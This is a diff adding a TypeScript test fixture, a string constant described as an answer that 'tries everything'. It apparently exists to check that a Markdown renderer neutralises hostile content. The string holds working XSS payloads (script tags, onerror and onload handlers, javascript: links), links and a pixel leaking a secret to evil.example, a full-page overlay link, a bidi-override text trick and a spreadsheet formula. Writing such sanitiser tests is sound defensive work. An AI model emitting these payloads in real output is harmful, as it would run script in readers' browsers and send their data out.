@@ -1,0 +1,38 @@
+/** An answer that tries everything: scripts, pictures, frames, styles, links, bidi tricks, broken Markdown. */
+export const HOSTILE = `# <img src=x onerror="window.pwned=1">
+
+<script>window.pwned = 2</script>
+
+<iframe src="https://evil.example/frame"></iframe>
+
+<style>body { display: none }</style>
+
+![a picture](https://evil.example/pixel.png?q=secret) and ![](javascript:alert(1))
+
+[click me](javascript:window.pwned=3), [look](https://evil.example/page), <https://evil.example/auto>, https://evil.example/bare
+
+[reference][evil]
+
+[evil]: https://evil.example/reference "onmouseover=alert(1)"
+
+<a href="https://evil.example/a" style="position:fixed;inset:0">cover</a> <form action="https://evil.example"><input name=x></form>
+
+Pay \u202E000,1$ now\u202C, and <b onclick="window.pwned=4">bold</b> &lt;script&gt;window.pwned=5&lt;/script&gt;
+
+| a | <svg onload="window.pwned=6"> | **unclosed |
+|---|---|
+| =HYPERLINK("https://evil.example") | \`<script>\` | extra | cells |
+| [x](data:text/html,<script>1</script>) |
+
+\`\`\`html
+<script>window.pwned = 7</script>
+\`\`\`
+
+> quote <object data="https://evil.example/o"></object>
+
+1. **never closed
+2. ~~~ nor this
+
+${"x".repeat(600)}
+
+<div`;
